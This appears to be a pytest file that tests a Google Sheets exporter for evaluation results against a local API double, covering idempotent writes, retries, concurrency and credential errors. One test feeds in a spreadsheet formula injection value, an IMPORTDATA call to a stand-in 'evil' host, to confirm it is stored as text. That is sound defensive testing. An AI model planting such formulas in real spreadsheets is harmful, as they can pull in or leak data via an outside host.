from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import requests
from requests.adapters import HTTPAdapter
from tests.doubles.sheets import SheetsDouble, documents, sheets_double
from tests.support.runs import make_run

from nel_action.errors import NelActionError
from nel_action.exporters.bundle import Bundle, load_bundle
from nel_action.exporters.gsheets import exporter as module
from nel_action.exporters.gsheets.exporter import GsheetsExporter
from nel_action.exporters.interface import Change, ExportOutcome
from nel_action.exporters.service import export_bundles

pytestmark = pytest.mark.slow

if TYPE_CHECKING:
    from google.auth.credentials import Credentials

pytest.importorskip("gspread", reason="needs the gsheets extra")
if not documents():
    pytest.skip("needs google-api-python-client, for Google's own description", allow_module_level=True)

HEADS = ["Model Name", "Task Name", "Invocation ID", "Job ID", "Executor"]


class RedirectAdapter(HTTPAdapter):
    """Sends requests for Google to the double."""

    def __init__(self, url: str) -> None:
        super().__init__()
        self._url = url

    def send(self, request: requests.PreparedRequest, *args: Any, **kwargs: Any) -> requests.Response:  # noqa: ANN401
        address = str(request.url)
        for origin in ("https://sheets.googleapis.com", "https://www.googleapis.com"):
            address = address.replace(origin, self._url)
        request.url = address
        return super().send(request, *args, **kwargs)


@pytest.fixture
def sheet(monkeypatch: pytest.MonkeyPatch) -> Iterator[SheetsDouble]:
    with sheets_double() as double:

        def session_for(credentials: Credentials) -> requests.Session:
            session = module._authorized(credentials)
            session.mount("https://", RedirectAdapter(double.url))
            return session

        monkeypatch.setattr(module, "GsheetsExporter", lambda: GsheetsExporter(session_for))
        yield double


@pytest.fixture(scope="module")
def private_key() -> str:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    kind = serialization.PrivateFormat.PKCS8
    return str(key.private_bytes(serialization.Encoding.PEM, kind, serialization.NoEncryption()).decode())


@pytest.fixture
def key(sheet: SheetsDouble, private_key: str) -> str:
    """Return the text of a service account's key whose tokens come from the double."""
    return json.dumps(
        {
            "type": "service_account",
            "client_email": "robot@project.example",
            "private_key": private_key,
            "token_uri": f"{sheet.url}/token",
        }
    )


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "empty-home"))


@pytest.fixture
def bundle(tmp_path: Path) -> Bundle:
    return load_bundle(make_run(tmp_path / "runs"))


def export(
    bundle: Bundle,
    key: str,
    waits: list[float] | None = None,
    **options: Any,  # noqa: ANN401 - options of a spec
) -> ExportOutcome:
    sleep = waits.append if waits is not None else lambda _seconds: None
    settings = {"spreadsheet_id": "S1", **options}
    return export_bundles([bundle], "gsheets", settings, {"GOOGLE_SERVICE_ACCOUNT_JSON": key}, sleep=sleep)


def changes(outcome: ExportOutcome) -> list[Change]:
    assert outcome.complete, [item.problem for item in outcome.items]
    return [item.change for item in outcome.items]


def with_score(bundle: Bundle, value: float) -> Bundle:
    tasks = list(bundle.results.tasks)
    score = tasks[2].scores[0].model_copy(update={"value": value})
    tasks[2] = tasks[2].model_copy(update={"scores": (score,)})
    return replace(bundle, results=bundle.results.model_copy(update={"tasks": tuple(tasks)}))


def test_empty_sheet_gets_headers_and_one_row_per_job(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    assert changes(export(bundle, key)) == [Change.CREATED] * 5
    assert sheet.grid[0][:5] == HEADS
    row = sheet.rows()[2]
    assert (row["Task Name"], row["Verdict"], row["Commit"]) == ("gsm8k", "fail", "a1b2c3d")
    assert (row["exact_match"], row["exact_match stderr"], row["exact_match n"]) == (0.741, 0.019, 541)
    assert json.loads(row["Parameters"]) == {"limit_samples": 541, "temperature": 0.0}
    assert (row["Gate"], row["Spec Digest"], row["Harness Version"]) == ("fail", "0" * 64, "0.4.9")
    assert "https://ci.example/run/1" in row["Links"]
    assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 1


def test_second_export_writes_nothing(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    export(bundle, key)
    before = [list(row) for row in sheet.grid]
    sheet.calls.clear()
    assert changes(export(bundle, key)) == [Change.UNCHANGED] * 5
    assert "sheets.spreadsheets.batchUpdate" not in sheet.calls
    assert sheet.grid == before


def test_only_changed_cells_are_written(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    export(bundle, key)
    assert changes(export(with_score(bundle, 0.5), key)).count(Change.UPDATED) == 1
    (request,) = [request for request in sheet.bodies[-1]["requests"] if "updateCells" in request]
    assert request["updateCells"]["rows"] == [{"values": [{"userEnteredValue": {"numberValue": 0.5}}]}]
    assert sheet.rows()[2]["exact_match"] == 0.5


def test_added_columns_and_order_of_rows_are_kept(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    export(bundle, key)
    # NOTE: a user adds a column on each side and reverses the rows.
    heads, *rows = sheet.grid
    (tab,) = sheet.tabs
    tab.grid = [["Notes", *heads, "Owner"]] + [[f"note {n}", *row, "ann"] for n, row in enumerate(reversed(rows))]
    tab.columns += 2
    before = {row["Job ID"]: (row["Notes"], row["Owner"]) for row in sheet.rows()}
    export(with_score(bundle, 0.5), key)
    assert {row["Job ID"]: (row["Notes"], row["Owner"]) for row in sheet.rows()} == before
    assert next(row for row in sheet.rows() if row["Task Name"] == "gsm8k")["exact_match"] == 0.5
    assert len(sheet.grid) == 6


def test_new_invocation_adds_rows_below_and_columns_on_the_right(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    export(bundle, key)
    width = len(sheet.grid[0])
    task = bundle.results.tasks[0]
    score = task.scores[0].model_copy(update={"metric": "f1"})
    later = task.model_copy(update={"job_id": "ffff.0", "scores": (score,)})
    results = bundle.results.model_copy(update={"invocation": "ffff", "tasks": (later,)})
    assert changes(export(replace(bundle, results=results), key)) == [Change.CREATED]
    assert sheet.grid[0][width:] == ["f1", "f1 stderr", "f1 n"]
    assert sheet.rows()[-1]["f1"] == 0.741
    assert sheet.rows()[0]["f1"] == ""
    assert len(sheet.grid) == 7


def test_formulas_in_names_are_text(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    evil = '=IMPORTDATA("https://evil.example")'
    task = bundle.results.tasks[0].model_copy(update={"model": evil})
    export(replace(bundle, results=bundle.results.model_copy(update={"tasks": (task,)})), key)
    kinds = {kind for cell in _cells(sheet.bodies[-1]) for kind in cell.get("userEnteredValue", {})}
    assert kinds == {"stringValue", "numberValue"}
    assert sheet.rows()[0]["Model Name"] == evil


def _cells(body: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for request in body["requests"]:
        for change in request.values():
            for row in change.get("rows", []):
                yield from row["values"]


def test_log_metrics_filters_columns(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    export(bundle, key, log_metrics=["gsm8k.exact_match"])
    assert [row.get("exact_match") for row in sheet.rows()] == ["", "", 0.741, "", ""]


@pytest.mark.parametrize(("headers", "expected"), [({"Retry-After": "33"}, 33.0), ({}, 20.0)])
def test_exhausted_quota_delays_the_retry(
    bundle: Bundle, sheet: SheetsDouble, key: str, headers: dict[str, str], expected: float
) -> None:
    sheet.failures = [(429, headers), (429, headers)]
    waits: list[float] = []
    assert export(bundle, key, waits).complete
    assert waits == [expected, expected]
    assert len(sheet.grid) == 6


def test_lost_response_does_not_duplicate_rows(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    sheet.lost = ["sheets.spreadsheets.batchUpdate"]
    assert export(bundle, key).complete
    assert len(sheet.grid) == 6
    assert sheet.lost == []


@pytest.mark.parametrize(
    ("options", "failure", "message"),
    [
        ({"spreadsheet_id": "other"}, None, "no such Google sheet"),
        ({}, 403, "share the sheet with robot@project.example"),
        ({}, 400, "Google Sheets rejected the request"),
    ],
)
def test_rejected_requests_are_reported_with_a_fix(
    bundle: Bundle, sheet: SheetsDouble, key: str, options: dict[str, Any], failure: int | None, message: str
) -> None:
    sheet.failures = [(failure, {})] if failure else []
    outcome = export(bundle, key, **options)
    assert not outcome.complete
    assert message in str(outcome.items[0].problem)


def test_spreadsheet_is_found_by_title(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    assert export(bundle, key, spreadsheet_id=None, spreadsheet_name="Nightly").complete
    assert len(sheet.grid) == 6


def test_missing_sheet_is_created_once(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    assert changes(export(bundle, key, worksheet="Gate's own")) == [Change.CREATED] * 5
    assert changes(export(bundle, key, worksheet="Gate's own")) == [Change.UNCHANGED] * 5
    assert [(tab.title, len(tab.grid)) for tab in sheet.tabs] == [("Sheet1", 0), ("Gate's own", 6)]
    assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 1


def test_missing_spreadsheet_is_created_and_shared(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    options: dict[str, Any] = {"spreadsheet_id": None, "spreadsheet_name": "Other", "share_with": ["ann@e.example"]}
    outcome = export(bundle, key, **options)
    assert changes(outcome) == [Change.CREATED] * 5
    assert "belongs to robot@project.example" in outcome.notes[0]
    assert (sheet.title, sheet.shared, len(sheet.grid)) == ("Other", ["writer ann@e.example"], 6)
    assert changes(export(bundle, key, **options)) == [Change.UNCHANGED] * 5
    assert sheet.calls.count("sheets.spreadsheets.create") == 1


def test_default_spreadsheet_is_that_of_the_launcher(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    sheet.title = "NeMo Evaluator Launcher Results"
    assert changes(export(bundle, key, spreadsheet_id=None)) == [Change.CREATED] * 5
    assert {"Model Name", "Harness", "Task Name", "Executor", "Container", "Invocation ID", "Job ID"} <= set(
        sheet.grid[0]
    )


def with_own_metric(bundle: Bundle, number: int) -> Bundle:
    """Return another invocation with its own metric."""
    task = bundle.results.tasks[0]
    score = task.scores[0].model_copy(update={"metric": f"metric{number}", "value": number / 10})
    task = task.model_copy(update={"job_id": f"{number:016x}.0", "scores": (score,)})
    results = bundle.results.model_copy(update={"invocation": f"{number:016x}", "tasks": (task,)})
    return replace(bundle, results=results)


def export_concurrently(exports: list[tuple[Bundle, str]]) -> list[ExportOutcome]:
    """Run each export in a thread of its own, all started at the same time."""
    barrier = threading.Barrier(len(exports))

    def run(pair: tuple[Bundle, str]) -> ExportOutcome:
        barrier.wait(30)
        return export(*pair)

    with ThreadPoolExecutor(len(exports)) as pool:
        return list(pool.map(run, exports))


def test_concurrent_exports_of_equal_results_add_each_row_once(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
    sheet.barrier = threading.Barrier(5)
    effects = [change for outcome in export_concurrently([(bundle, key)] * 5) for change in changes(outcome)]
    assert (effects.count(Change.CREATED), effects.count(Change.UNCHANGED)) == (5, 20)
    assert len(sheet.grid) == 6
    assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 5, "each export has read before any has written"


def test_concurrent_exports_of_different_metrics_keep_their_columns(
    bundle: Bundle, sheet: SheetsDouble, key: str
) -> None:
    sheet.barrier = threading.Barrier(5)
    export_concurrently([(with_own_metric(bundle, number), key) for number in range(1, 6)])
    assert len(sheet.rows()) == 5
    for row in sheet.rows():
        number = int(row["Invocation ID"], 16)
        values = {name: value for name, value in row.items() if re.fullmatch(r"metric\d", name) and value != ""}
        assert values == {f"metric{number}": number / 10}


@pytest.mark.usefixtures("sheet")
def test_credentials_of_a_user_and_of_an_authorized_client(bundle: Bundle, tmp_path: Path) -> None:
    # NOTE: the token has not expired, since Google's library refreshes tokens of users only at Google itself.
    user = {"client_id": "c", "client_secret": "s3cret", "refresh_token": "r"}
    user |= {"token": "t", "expiry": "2999-01-01T00:00:00Z"}
    client = tmp_path / "credentials.json"
    client.write_text(json.dumps({"installed": {"client_id": "c"}}))
    options = {"spreadsheet_id": "S1", "oauth_file": str(client)}
    with pytest.raises(NelActionError, match="no user has authorized"):
        export_bundles([bundle], "gsheets", options, {})
    (tmp_path / "authorized_user.json").write_text(json.dumps(user))
    assert export_bundles([bundle], "gsheets", options, {}).complete
    options["oauth_file"] = str(tmp_path / "authorized_user.json")
    assert export_bundles([bundle], "gsheets", options, {}).complete


def test_key_is_read_from_a_file_and_from_a_mounted_secret(
    bundle: Bundle, sheet: SheetsDouble, key: str, tmp_path: Path
) -> None:
    file = tmp_path / "key.json"
    file.write_text(key)
    options = {"spreadsheet_id": "S1"}
    environ = {"GOOGLE_SERVICE_ACCOUNT_JSON_FILE": str(file)}
    assert export_bundles([bundle], "gsheets", {**options, "service_account_file": str(file)}, {}).complete
    assert export_bundles([bundle], "gsheets", options, environ).complete
    assert export_bundles([bundle], "gsheets", options, {"GOOGLE_APPLICATION_CREDENTIALS": str(file)}).complete
    assert sheet.tokens == 3


@pytest.mark.parametrize(
    ("options", "environ", "message"),
    [
        ({"spreadsheet_id": "S1"}, {}, "no Google credentials"),
        ({"oauth_file": "/nowhere"}, {}, "cannot read the Google credentials"),
        ({"spreadsheet_id": "S1"}, {"GOOGLE_SERVICE_ACCOUNT_JSON": "s3cret"}, "are not JSON"),
        ({"spreadsheet_id": "S1", "service_account_file": "/nowhere"}, {}, "cannot read the Google credentials"),
    ],
)
def test_invalid_credentials_are_reported_before_any_request(
    bundle: Bundle, options: dict[str, str], environ: dict[str, str], message: str
) -> None:
    with pytest.raises(NelActionError, match=message) as caught:
        export_bundles([bundle], "gsheets", options, environ)
    assert "s3cret" not in str(caught.value)
    assert caught.value.exit_code == 2


def test_incomplete_key_is_reported_without_its_text(bundle: Bundle, sheet: SheetsDouble) -> None:
    outcome = export(bundle, json.dumps({"type": "service_account", "private_key": "s3cret"}))
    assert "incomplete Google credentials" in str(outcome.items[0].problem)
    assert "s3cret" not in str(outcome.items[0].problem)
    assert sheet.calls == []
